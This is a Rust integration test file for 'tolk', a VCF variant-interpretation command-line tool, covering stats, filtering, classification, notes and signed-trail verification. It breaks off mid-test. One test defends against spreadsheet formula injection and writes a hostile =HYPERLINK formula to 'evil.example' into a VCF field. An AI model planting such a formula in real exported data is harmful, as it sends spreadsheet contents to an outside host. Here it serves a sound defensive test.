//! The `tolk` binary's contract: JSON on stdout and exit 0 for a readable
//! file; `FILE: line L: ...` on stderr and exit 2 otherwise; never a panic.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn data(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data").join(path)
}

fn tolk(args: &[&std::ffi::OsStr]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tolk")).args(args).output().unwrap()
}

fn stats(path: &Path) -> Output {
    tolk(&["stats".as_ref(), path.as_os_str()])
}

#[test]
fn stats_prints_bcftools_counts_as_json() {
    let out = stats(&data("vep/bystro-trio.trim.vep.vcf.gz"));
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["records"], 146);
    assert_eq!(json["samples"], serde_json::json!(["1805", "1847", "4805"]));
    // Its one warning: VEP was run without frequencies, so none is in the header.
    assert_eq!(json["warnings"], 1);
    assert_eq!(json["annotation"], "vep");
    assert_eq!(json["compression"], "bgzf");

    let out = stats(&data("snpeff/cyvcf2-ann-csq-189samples.vcf.gz"));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((json["records"].as_u64(), json["samples"].as_array().map(Vec::len)), (Some(115), Some(189)));
}

#[test]
fn unreadable_files_name_the_line_and_exit_2() {
    let dir = std::env::temp_dir().join(format!("tolk-cli-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let gz = std::fs::read(data("vep/bystro-trio.trim.vep.vcf.gz")).unwrap();
    let cases: [(&str, &[u8], &str); 3] = [
        ("cut.vcf.gz", &gz[..gz.len() / 2], ": line "),
        ("garbage.vcf", b"\x7fELF\x02\x01\x01\x00", ": line 1: not a VCF file"),
        ("empty.vcf", b"", ": line 0: the file is empty"),
    ];
    for (name, bytes, expected) in cases {
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap();
        let out = stats(&path);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
        assert!(stderr.starts_with(&format!("{}{expected}", path.display())), "{name}: {stderr}");
        assert!(out.stdout.is_empty());
    }
    let out = stats(&dir.join("does-not-exist.vcf"));
    assert_eq!(out.status.code(), Some(2));
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn every_test_file_exits_0_or_2_never_panics() {
    let mut checked = 0;
    for dir in ["edge", "families", "snpeff", "vep", "panels", "sv"] {
        for entry in std::fs::read_dir(data(dir)).unwrap() {
            let path = entry.unwrap().path();
            let code = stats(&path).status.code();
            assert!(matches!(code, Some(0) | Some(2)), "{}: exit {code:?}", path.display());
            checked += 1;
        }
    }
    assert!(checked > 90);
}

#[test]
fn view_writes_structural_columns_and_filters_by_type_and_size() {
    // Scout's trio 643594, Manta + VEP 85 (tests/data/SOURCES.md).
    let file = data("sv/scout-643594.clinical.SV.vcf.gz");
    let args = [file.as_os_str(), "--svtype".as_ref(), "DEL,DUP".as_ref(), "--min-svlen".as_ref(), "1000".as_ref()];
    let out = tolk(&[&["view".as_ref()][..], &args[..]].concat());
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    let rows: Vec<Vec<&str>> = text.lines().skip(1).map(|l| l.split('\t').collect()).collect();
    let cells: Vec<[&str; 6]> = rows.iter().map(|r| [r[0], r[1], r[3], r[10], r[11], r[12]]).collect();
    assert_eq!(
        cells,
        [
            ["13", "21732261", "<DEL>", "DEL", "21734037", "1776"],
            ["13", "21732265", "<DEL>", "DEL", "21735928", "3663"],
            ["13", "21746642", "<DEL>", "DEL", "21750512", "3870"],
        ]
    );
    let funnel = String::from_utf8(out.stderr).unwrap();
    assert!(funnel.contains("Structural variants: deletion or duplication"), "{funnel}");
    assert!(funnel.contains("At least 1,000 bases long"), "{funnel}");
    let bad = tolk(&["view".as_ref(), file.as_os_str(), "--svtype".as_ref(), "DELETION".as_ref()]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("--svtype: \"DELETION\" is not one of DEL, DUP"));
}

#[test]
fn view_writes_one_row_per_alt_with_hgvs() {
    let out = tolk(&["view".as_ref(), data("../../public/demo/tolk-demo-trio.vcf").as_os_str()]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "chrom\tpos\tref\talt\tgene\tconsequence\timpact\thgvsc\thgvsp\taf\tsvtype\tend\tsvlen");
    assert_eq!(lines.len(), 1 + 17, "16 records, one of them with two ALTs");
    let scn1a = lines.iter().find(|l| l.starts_with("chr2\t166003512\t")).unwrap();
    let cells: Vec<&str> = scn1a.split('\t').collect();
    assert_eq!(
        &cells[4..9],
        ["SCN1A", "missense_variant", "MODERATE", "ENST00000674923.1:c.4547G>A", "ENSP00000674923.1:p.Arg1516Gln"]
    );
    assert_eq!(cells[9], ".", "no population AF in the file: a dot, not zero");
    assert_eq!(cells[10..13], [".", ".", "."], "a small variant has no structural type, END or size");
    // The synonymous CDKL5 variant's p.(Ser558=) is written %3D in the file.
    assert!(text.contains("p.Ser558=\t"), "HGVS percent-escapes are undone");
}

#[test]
fn view_sorts_rows_as_the_grid_does_missing_last_and_every_row_once() {
    let demo = data("../../public/demo/tolk-demo-trio.vcf");
    let column = |args: &[&str], at: usize| -> Vec<String> {
        let mut all = vec![std::ffi::OsStr::new("view"), demo.as_os_str()];
        all.extend(args.iter().map(std::ffi::OsStr::new));
        let out = tolk(&all);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8(out.stdout).unwrap();
        text.lines().skip(1).map(|l| l.split('\t').nth(at).unwrap().to_owned()).collect()
    };
    let file_order = column(&[], 1);
    let genes = column(&["--sort", "gene"], 4);
    let named: Vec<&String> = genes.iter().filter(|g| *g != ".").collect();
    let mut expected = named.clone();
    expected.sort();
    assert_eq!(named, expected, "gene names in order");
    assert!(genes[named.len()..].iter().all(|g| g == "."), "rows without a gene last: {genes:?}");
    let mut positions = column(&["--sort", "pos", "--descending"], 1);
    assert_ne!(positions, file_order);
    positions.sort();
    let mut every = file_order.clone();
    every.sort();
    assert_eq!(positions, every, "every row once");
    let out = tolk(&["view".as_ref(), demo.as_os_str(), "--descending".as_ref()]);
    assert_eq!(out.status.code(), Some(2), "--descending needs --sort");
    let out = tolk(&["view".as_ref(), demo.as_os_str(), "--sort".as_ref(), "hgvs".as_ref()]);
    assert!(String::from_utf8_lossy(&out.stderr).contains(
        "possible values: gene, consequence, sv, af, faf, clinvar, cadd, revel, spliceai, alphamissense, rank_score, pos, qual"
    ));
}

#[test]
fn view_tsv_cells_a_spreadsheet_would_run_get_a_quote_and_json_keeps_them_exact() {
    let dir = std::env::temp_dir().join(format!("tolk-cli-formula-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("formula.vcf");
    // No comma: it would end the CSQ entry.
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1)"#;
    std::fs::write(
        &path,
        format!(
            "##fileformat=VCFv4.2\n##INFO=<ID=CSQ,Number=.,Type=String,Description=\"Ensembl VEP. Format: Allele|Consequence|IMPACT|SYMBOL|HGVSc\">\n\
             #CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\nchr1\t10\t.\tA\tG\t50\tPASS\tCSQ=G|missense_variant|MODERATE|{}|@SUM(1)\n",
            formula
        ),
    )
    .unwrap();
    let out = tolk(&["view".as_ref(), path.as_os_str()]);
    let text = String::from_utf8(out.stdout).unwrap();
    let cells: Vec<&str> = text.lines().nth(1).unwrap().split('\t').collect();
    assert_eq!(cells[4], format!("'{formula}"));
    assert_eq!(cells[7], "'@SUM(1)");
    assert_eq!(cells[5], "missense_variant", "ordinary values are untouched");
    let out = tolk(&["view".as_ref(), "--format".as_ref(), "json".as_ref(), path.as_os_str()]);
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows[0]["gene"], formula);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn view_json_and_policy() {
    let args = ["view", "--format", "json", "--policy", "canonical"];
    let mut argv: Vec<&std::ffi::OsStr> = args.iter().map(|a| a.as_ref()).collect();
    let path = data("vep/vembrane-vep110-csq.vcf");
    argv.push(path.as_os_str());
    let out = tolk(&argv);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1);
    assert_eq!(rows[0]["gene"], "ANKRD36");
    assert_eq!(rows[0]["impact"], "HIGH");
}

#[test]
fn synth_is_deterministic_and_loads_cleanly() {
    let synth = |seed: &str| {
        tolk(&["synth".as_ref(), "--records".as_ref(), "300".as_ref(), "--seed".as_ref(), seed.as_ref()]).stdout
    };
    let a = synth("3");
    assert_eq!(a, synth("3"), "same seed, same file");
    assert_ne!(a, synth("4"));
    let dir = std::env::temp_dir().join(format!("tolk-synth-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("synth.vcf");
    std::fs::write(&path, &a).unwrap();
    let out = stats(&path);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["records"], 300);
    assert_eq!(json["warnings"], 0, "a synthetic file must be clean VCF");
    assert_eq!(json["samples"], serde_json::json!(["PROBAND", "MOTHER", "FATHER"]));
    assert!(json["variants"].as_u64().unwrap() > 300, "some multi-allelic sites");
    std::fs::remove_dir_all(dir).unwrap();
}

/// Text is read in parts, BGZF in ranges of blocks; either way the output
/// is the single pass's. A damaged block is named at its line either way.
#[test]
fn threads_change_nothing_but_the_time() {
    // Some 11 MB of text: three parts or ranges of `tolk_core::parts::PART_BYTES`.
    let synth = |extra: &[&str]| {
        let args: Vec<&std::ffi::OsStr> =
            ["synth", "--records", "12000"].iter().chain(extra).map(|a| a.as_ref()).collect();
        tolk(&args).stdout
    };
    let dir = std::env::temp_dir().join(format!("tolk-threads-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let text = dir.join("synth.vcf");
    std::fs::write(&text, synth(&[])).unwrap();
    let bgzf = dir.join("synth.vcf.gz");
    let compressed = synth(&["--bgzf"]);
    std::fs::write(&bgzf, &compressed).unwrap();
    let run = |threads: &str, command: &str, path: &Path| {
        let out = tolk(&["--threads".as_ref(), threads.as_ref(), command.as_ref(), path.as_os_str()]);
        (out.status.code(), out.stdout, String::from_utf8_lossy(&out.stderr).into_owned())
    };
    for path in [&text, &bgzf] {
        for command in ["stats", "view"] {
            let one_pass = run("1", command, path);
            assert_eq!(one_pass.0, Some(0), "{}", one_pass.2);
            assert!(one_pass.1.len() > 100, "{command}");
            assert_eq!(run("3", command, path), one_pass, "{command} on three threads, {}", path.display());
        }
    }
    let stats = |path: &Path| serde_json::from_slice::<serde_json::Value>(&run("3", "stats", path).1).unwrap();
    assert_eq!(stats(&bgzf)["compression"], "bgzf");
    assert_eq!(stats(&bgzf)["records"], stats(&text)["records"]);
    let mut damaged = compressed;
    let middle = damaged.len() / 2;
    damaged[middle] ^= 0x5a;
    std::fs::write(&bgzf, damaged).unwrap();
    let (code, _, stderr) = run("3", "stats", &bgzf);
    assert_eq!((code, &stderr), (Some(2), &run("1", "stats", &bgzf).2), "the single pass's words");
    assert!(stderr.contains(": line ") && stderr.contains("corrupt"), "{stderr}");
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn panel_prints_name_version_and_gene_count() {
    let out = tolk(&[
        "panel".as_ref(),
        data("panels/tolk-panelapp-single.json").as_os_str(),
        "--min-confidence".as_ref(),
        "3".as_ref(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "{\"name\":\"Tolk test panel A\",\"version\":\"2.3\",\"genes\":3}\n"
    );
    let out = tolk(&["panel".as_ref(), data("families/genmod-duo.ped").as_os_str()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("line 2: \"1\" is not a gene symbol"));
}

#[test]
fn view_narrows_by_panel_family_and_mode_and_reports_the_funnel() {
    let family = |file: &str| data(&format!("families/{file}"));
    let out = tolk(&[
        "view".as_ref(),
        family("gemini-test.de_novo.vcf").as_os_str(),
        "--panel".as_ref(),
        data("panels/tolk-genes.txt").as_os_str(),
        "--ped".as_ref(),
        family("gemini-test.de_novo.ped").as_os_str(),
        "--proband".as_ref(),
        "1_kid".as_ref(),
        "--mode".as_ref(),
        "de_novo".as_ref(),
        "--preset".as_ref(),
        "rare-disease".as_ref(),
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let rows: Vec<&str> = stdout.lines().collect();
    assert!(rows[0].ends_with("\tinheritance"));
    // WDR37 stop_lost and SYCE1 missense are de novo in 1_kid; CYP2E1 (intronic) is not in the panel.
    // Only "possible": gemini's hom-ref parents carry ALT reads (AD 1,37), which trio QC will not pass.
    assert_eq!(rows.len(), 3, "{stdout}");
    assert!(rows[1].starts_with("chr10\t1142208\t") && rows[1].ends_with("\tde_novo?"), "{stdout}");
    assert!(rows[2].starts_with("chr10\t135369532\t"), "{stdout}");
    for step in [
        "In the file",
        "In panel (4 genes)",
        "FILTER is PASS",
        "Carried by the proband",
        "Population AF below 0.01",
        "De novo",
    ] {
        assert!(stderr.contains(step), "{step}: {stderr}");
    }

    let out =
        tolk(&["view".as_ref(), family("gemini-test.de_novo.vcf").as_os_str(), "--impact".as_ref(), "SEVERE".as_ref()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--impact: \"SEVERE\""));
    // Terms and classes are checked, not silently matched against nothing.
    for (flag, value, said) in [
        ("--consequence", "missense", "--consequence: \"missense\" is not a Sequence Ontology"),
        ("--clinvar", "pathogenic,nonsense", "--clinvar: \"nonsense\" is not a ClinVar class"),
        ("--mode", "dominant", "possible values: any, de_novo, ar_hom, comp_het, ad, x_linked"),
    ] {
        let out =
            tolk(&["view".as_ref(), family("gemini-test.de_novo.vcf").as_os_str(), flag.as_ref(), value.as_ref()]);
        assert_eq!(out.status.code(), Some(2), "{flag} {value}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(said),
            "{flag}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

fn classify(codes: &[&str]) -> Output {
    let args: Vec<&std::ffi::OsStr> =
        std::iter::once("classify").chain(codes.iter().copied()).map(std::ffi::OsStr::new).collect();
    tolk(&args)
}

#[test]
fn classify_prints_points_and_both_classes() {
    let cases: &[(&[&str], &str)] = &[
        (&["PVS1", "PS1"], r#"{"points":12,"class":"pathogenic","class_2015":"pathogenic"}"#),
        (
            &["PVS1", "PM2_Supporting"],
            r#"{"points":9,"class":"likely_pathogenic","class_2015":"uncertain_significance"}"#,
        ),
        (
            &["PM2_Supporting", "PP3_Moderate"],
            r#"{"points":3,"class":"uncertain_significance","class_2015":"uncertain_significance","vus_tier":"mid"}"#,
        ),
        (&["BS1", "BP4"], r#"{"points":-5,"class":"likely_benign","class_2015":"likely_benign"}"#),
        (&["BA1"], r#"{"points":-8,"class":"benign","class_2015":"benign"}"#),
        (&["PVS1,PM2_Supporting,PP3_Moderate,BA1"], r#"{"points":1,"class":"benign","class_2015":"benign"}"#),
        // The rule layer: PP3 does not count beside PVS1 (Walker 2023).
        (
            &["PVS1", "PM2_Supporting", "PP3"],
            r#"{"points":9,"class":"likely_pathogenic","class_2015":"uncertain_significance"}"#,
        ),
    ];
    for (codes, expected) in cases {
        let out = classify(codes);
        assert!(out.status.success(), "{codes:?}: {}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), *expected, "{codes:?}");
    }
    let out = classify(&["PVS1", "PM2_Supporting", "PP3_Moderate", "BA1"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("# BA1 is stand-alone"));
    assert!(String::from_utf8_lossy(&out.stderr).contains("# PP3_Moderate does not count beside PVS1"));
}

#[test]
fn classify_refuses_unknown_codes_and_strengths_with_exit_2() {
    for (codes, says) in [
        (&["PVS1", "PM7"][..], "\"PM7\" is not an ACMG/AMP criterion"),
        (&["PP3_Huge"][..], "\"Huge\" in \"PP3_Huge\" is not a strength"),
        (&["PVS1_StandAlone"][..], "only BA1 stands alone"),
    ] {
        let out = classify(codes);
        assert_eq!(out.status.code(), Some(2), "{codes:?}");
        assert!(out.stdout.is_empty());
        assert!(String::from_utf8_lossy(&out.stderr).contains(says), "{}", String::from_utf8_lossy(&out.stderr));
    }
}

#[test]
fn note_renders_an_exported_session_in_each_format() {
    let session = data("note/demo.session.json");
    for (format, golden) in [("json", "json"), ("md", "md"), ("html", "html"), ("fhir", "fhir.json")] {
        let out = tolk(&["note".as_ref(), session.as_os_str(), "--format".as_ref(), format.as_ref()]);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let name = if format == "fhir" { "note/demo.fhir.json".to_owned() } else { format!("note/demo.note.{golden}") };
        if format == "html" && std::env::var_os("TOLK_UPDATE_GOLDEN").is_some() {
            std::fs::write(data(&name), &out.stdout).unwrap();
        }
        let expected = std::fs::read_to_string(data(&name)).unwrap();
        assert!(String::from_utf8(out.stdout).unwrap() == expected, "tolk note --format {format} differs from {name}");
    }
}

#[test]
fn the_note_schema_in_docs_is_the_one_the_model_gives() {
    let out = tolk(&["note".as_ref(), "--schema".as_ref()]);
    assert_eq!(out.status.code(), Some(0));
    let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/note.schema.json");
    assert!(
        String::from_utf8(out.stdout).unwrap() == std::fs::read_to_string(docs).unwrap(),
        "docs/note.schema.json is stale: run `cargo run -p tolk-cli -- note --schema > docs/note.schema.json`"
    );
}

#[test]
fn note_refuses_what_is_not_a_session_by_name_with_exit_2() {
    for (path, says) in [
        (data("vep/vembrane-spliceai.vcf"), "not a Tolk session file"),
        (data("note/no-such-session.json"), "no-such-session.json"),
    ] {
        let out = tolk(&["note".as_ref(), path.as_os_str()]);
        assert_eq!(out.status.code(), Some(2), "{}", path.display());
        assert!(out.stdout.is_empty());
        assert!(String::from_utf8_lossy(&out.stderr).contains(says), "{}", String::from_utf8_lossy(&out.stderr));
    }
}

#[test]
fn view_search_finds_what_the_grid_box_finds_and_refuses_what_it_cannot_read() {
    let vcf = data("vep/bystro-trio.trim.vep.vcf.gz");
    let keys = |search: &str, file: &Path| {
        let out = tolk(&["view".as_ref(), "--search".as_ref(), search.as_ref(), file.as_os_str()]);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8(out.stdout).unwrap();
        text.lines().skip(1).map(|l| l.split('\t').take(4).collect::<Vec<_>>().join(":")).collect::<Vec<_>>()
    };
    // Genes and positions, in the store.
    let pxdn = keys("pxdn", &vcf);
    assert!(pxdn.contains(&"2:1652822:T:G".to_owned()), "{pxdn:?}");
    assert_eq!(pxdn, keys("2:1600000-1700000", &vcf));
    assert_eq!(keys("2-1652822-T-G", &vcf), ["2:1652822:T:G"]);
    // A dbSNP id in VEP's Existing_variation of a bgzipped file: the text
    // is read again.
    let cyvcf2 = data("snpeff/cyvcf2-ann-csq-189samples.vcf.gz");
    assert_eq!(keys("rs62635286", &cyvcf2), ["1:13116:T:G"]);
    let demo = data("../../public/demo/tolk-demo-trio.vcf");
    assert_eq!(keys("p.R594W", &demo), ["chr20:63413452:G:A"]);
    assert_eq!(keys("rs1801133", &demo), ["chr1:11796321:G:A"]);
    let out = tolk(&["view".as_ref(), "--search".as_ref(), "chr2:abc".as_ref(), demo.as_os_str()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("chr2:abc"));
}

/// `tolk labdb build` from the demo session and its VCF, `merge` with a
/// second case, `export` with small counts left out, and `tolk view
/// --knowledge` with ClinVar, constraint and the lab database.
#[test]
fn the_lab_database_is_built_merged_exported_and_read_beside_clinvar() {
    let dir = std::env::temp_dir().join(format!("tolk-cli-labdb-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../public/demo/tolk-demo-trio.vcf");
    let session = data("note/demo.session.json");
    let (one, two, merged) = (dir.join("one.json"), dir.join("two.json"), dir.join("merged.json"));
    let run = |args: &[&std::ffi::OsStr]| {
        let out = tolk(args);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let os = |s: &'static str| std::ffi::OsStr::new(s);
    run(&[
        os("labdb"),
        os("build"),
        session.as_os_str(),
        os("--vcf"),
        demo.as_os_str(),
        os("--date"),
        os("2025-01-10"),
        os("--out"),
        one.as_os_str(),
    ]);
    // The same session again, as another case (other bytes), without its VCF.
    let mut other: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&session).unwrap()).unwrap();
    other["file"]["sha256"] = serde_json::json!("b".repeat(64));
    let other_path = dir.join("other.session.json");
    std::fs::write(&other_path, other.to_string()).unwrap();
    run(&[os("labdb"), os("build"), other_path.as_os_str(), os("--out"), two.as_os_str()]);
    run(&[os("labdb"), os("merge"), one.as_os_str(), two.as_os_str(), os("--out"), merged.as_os_str()]);
    let db: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&merged).unwrap()).unwrap();
    assert_eq!(db["cases"].as_array().unwrap().len(), 2);
    assert_eq!(db["cases"][0]["observed"], "all_variants");
    assert_eq!(db["cases"][1]["observed"], "worked_only");

    let vcf = run(&[
        os("labdb"),
        os("export"),
        merged.as_os_str(),
        os("--format"),
        os("vcf"),
        os("--min-count"),
        os("2"),
        os("--date"),
        os("2025-02-01"),
    ]);
    let line =
        |key: &str| vcf.lines().find(|l| l.starts_with(key)).unwrap_or_else(|| panic!("{key} in\n{vcf}")).to_owned();
    // Both cases carry DEPDC5's variant; only the first carries MTHFR's,
    // which is not classified: under the threshold, it is not exported.
    assert!(line("chr22\t31808245").contains("AC_HET=2;"), "{vcf}");
    assert!(!vcf.contains("chr1\t11796321"), "{vcf}");
    assert!(!vcf.contains("PROBAND") && !vcf.contains("c0ab4a185fccdbee") && !vcf.contains("tolk-demo-trio"), "{vcf}");
    let tsv = run(&[os("labdb"), os("export"), merged.as_os_str(), os("--format"), os("clinvar-tsv")]);
    assert!(tsv.lines().next().unwrap().starts_with("Local ID\tGene symbol"), "{tsv}");

    let view = run(&[
        os("view"),
        demo.as_os_str(),
        os("--knowledge"),
        data("knowledge/clinvar-demo-2025.vcf").as_os_str(),
        os("--knowledge"),
        data("knowledge/constraint-v2.1.1.tsv").as_os_str(),
        os("--knowledge"),
        merged.as_os_str(),
    ]);
    let header: Vec<&str> = view.lines().next().unwrap().split('\t').collect();
    assert_eq!(header[13..], ["clinvar_current", "clinvar_stars", "lab_class", "lab_cases", "loeuf"]);
    let depdc5: Vec<&str> = view.lines().find(|l| l.starts_with("chr22\t31808245")).unwrap().split('\t').collect();
    // The demo file is the first case: the lab's other case is the second.
    assert_eq!(depdc5[13..17], ["Likely pathogenic", "2", "likely_pathogenic", "1"]);
    assert_ne!(depdc5[17], ".");
    std::fs::remove_dir_all(dir).unwrap();
}

/// Two variants interpreted by Kari Nordmann, reviewed and finalised by
/// Ola Nordmann, at fixed times, with the lab's roster of both: the
/// fixtures in tests/data/trail.
fn signed_off_session() -> (tolk_core::session::Session, tolk_core::trail::Roster) {
    use tolk_core::acmg::Class;
    use tolk_core::session::{FileIdentity, Override, Report, Session, VariantFacts, VariantWork};
    use tolk_core::trail::signature::test_keys::TestKey;
    use tolk_core::trail::{Role, Roster, Verdict};
    let (kari_key, ola_key) = (TestKey::new(1), TestKey::new(2));
    let (kari, ola) = (kari_key.who("Kari Nordmann"), ola_key.who("Ola Nordmann"));
    let file = FileIdentity { name: "trio.vcf.gz".into(), size: 1_234_567, sha256: "5e".repeat(32) };
    let mut s = Session::new(file, "0.1.0", "2026-12-07T09:00:00.000Z");
    let at = "2026-12-07T09:10:00.000Z";
    s.change(&kari, at, |s| s.analyst = "Kari Nordmann".into()).unwrap();
    let variants = [
        ("chr2", 166_003_512, "C", "T", "SCN1A", Class::LikelyPathogenic, Report::Report),
        ("chr22", 31_808_245, "C", "T", "DEPDC5", Class::UncertainSignificance, Report::VusList),
    ];
    for (i, (chrom, pos, reference, alt, gene, class, report)) in variants.into_iter().enumerate() {
        let at = format!("2026-12-07T09:{}0:00.000Z", 2 + i);
        s.change(&kari, &at, |s| {
            let facts = VariantFacts {
                chrom: chrom.into(),
                pos,
                reference: reference.into(),
                alt: alt.into(),
                gene: Some(gene.into()),
                ..VariantFacts::default()
            };
            let mut work = VariantWork::new(facts);
            work.override_class = Some(Override { class, reason: "as discussed with the referring team".into() });
            work.report = Some(report);
            work.updated_by = "Kari Nordmann".into();
            work.updated_at = at.clone();
            s.put(work, &at);
        })
        .unwrap();
    }
    let at = "2026-12-07T09:40:00.000Z";
    s.change(&kari, at, |s| s.note.conclusion = "A likely diagnosis of SCN1A-related epilepsy.".into()).unwrap();
    let at = "2026-12-07T10:00:00.000Z";
    let signature = kari_key.sign(&s.signing_message(Role::Interpreter, &kari, at, false));
    s.submit(&kari, at, signature).unwrap();
    for (key, comment) in [("chr2:166003512:C:T", ""), ("chr22:31808245:C:T", "Agreed: keep it on the VUS list.")] {
        s.review(&ola, "2026-12-07T14:00:00.000Z", key, Verdict::Agree, comment).unwrap();
    }
    let at = "2026-12-07T14:05:00.000Z";
    let signature = ola_key.sign(&s.signing_message(Role::Reviewer, &ola, at, false));
    s.finalise(&ola, at, signature, false).unwrap();
    let created = "2026-12-01T08:00:00.000Z";
    let roster = Roster::new(
        "Tolk test lab",
        vec![kari_key.analyst("Kari Nordmann", created), ola_key.analyst("Ola Nordmann", created)],
    );
    (s, roster)
}

/// The fixtures are this file's output: after an intended change, rewrite
/// them with `TOLK_UPDATE_GOLDEN=1 cargo test -p tolk-cli --test cli trail_fixtures`
/// and review the diff.
#[test]
fn the_trail_fixtures_are_what_this_test_makes() {
    let (session, roster) = signed_off_session();
    for (name, text) in [("trail/signed-off.session.json", session.to_json()), ("trail/roster.json", roster.to_json())]
    {
        let text = text + "\n";
        if std::env::var_os("TOLK_UPDATE_GOLDEN").is_some() {
            std::fs::write(data(name), &text).unwrap();
        }
        let committed = std::fs::read_to_string(data(name)).unwrap_or_default();
        assert!(committed == text, "tests/data/{name} differs; see this test's doc comment to update it");
    }
}

/// `tolk verify` of the trail fixture, edited by `edit` first (in a
/// scratch folder), with `roster` if given: the exit code and the JSON.
fn verify(
    name: &str,
    edit: impl FnOnce(&mut serde_json::Value),
    roster: Option<&Path>,
) -> (Option<i32>, serde_json::Value) {
    let dir = std::env::temp_dir().join(format!("tolk-cli-verify-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut session: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(data("trail/signed-off.session.json")).unwrap()).unwrap();
    edit(&mut session);
    let path = dir.join("session.json");
    std::fs::write(&path, serde_json::to_string_pretty(&session).unwrap()).unwrap();
    let mut args = vec!["verify".as_ref(), path.as_os_str()];
    if let Some(roster) = roster {
        args.extend(["--roster".as_ref(), roster.as_os_str()]);
    }
    let out = tolk(&args);
    std::fs::remove_dir_all(&dir).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let json = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("{name}: {e}: {stdout} {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code(), json)
}

fn trail_entries(session: &mut serde_json::Value) -> &mut Vec<serde_json::Value> {
    session["trail"].as_array_mut().unwrap()
}

#[test]
fn verify_passes_an_intact_signed_off_session_with_its_roster() {
    let roster = data("trail/roster.json");
    let (code, json) = verify("intact", |_| {}, Some(&roster));
    assert_eq!(code, Some(0), "{json:#}");
    assert_eq!(
        (json["chain"].as_str(), json["round"].as_str(), json["passed"].as_bool()),
        (Some("intact"), Some("finalised"), Some(true))
    );
    let signatures = json["signatures"].as_array().unwrap();
    let who: Vec<(&str, &str, bool, bool)> = signatures
        .iter()
        .map(|s| {
            let listed = s["roster"]["listed"].as_bool().unwrap();
            (s["role"].as_str().unwrap(), s["name"].as_str().unwrap(), s["valid"].as_bool().unwrap(), listed)
        })
        .collect();
    assert_eq!(who, [("interpreter", "Kari Nordmann", true, true), ("reviewer", "Ola Nordmann", true, true)]);
    // Without a roster: the chain is intact and the signatures valid, but
    // whose keys they are is unknown, so the check fails.
    let (code, json) = verify("no-roster", |_| {}, None);
    assert_eq!(code, Some(1));
    assert_eq!((json["chain"].as_str(), json["signatures"][1]["valid"].as_bool()), (Some("intact"), Some(true)));
    assert!(json["signatures"][1]["roster"].is_null());
}

#[test]
fn verify_finds_work_edited_by_hand_after_sign_off() {
    let mut entries = 0;
    let (code, json) = verify(
        "edited",
        |s| {
            entries = s["trail"].as_array().unwrap().len();
            s["variants"]["chr22:31808245:C:T"]["override_class"]["class"] = "likely_pathogenic".into();
        },
        Some(&data("trail/roster.json")),
    );
    assert_eq!(code, Some(1), "{json:#}");
    assert_eq!((json["chain"].as_str(), json["fault"].as_str()), (Some("broken"), Some("work_after")));
